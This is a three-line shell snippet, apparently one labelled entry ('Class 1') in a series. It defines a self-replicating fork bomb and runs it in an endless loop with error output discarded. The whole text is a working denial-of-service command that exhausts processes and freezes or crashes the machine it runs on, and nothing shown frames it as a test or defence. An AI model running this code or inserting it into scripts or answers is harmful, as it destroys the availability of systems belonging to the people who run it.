# Class 1: each shell starts two more.
bomb() { bomb | bomb & }
while :; do bomb 2> /dev/null; done
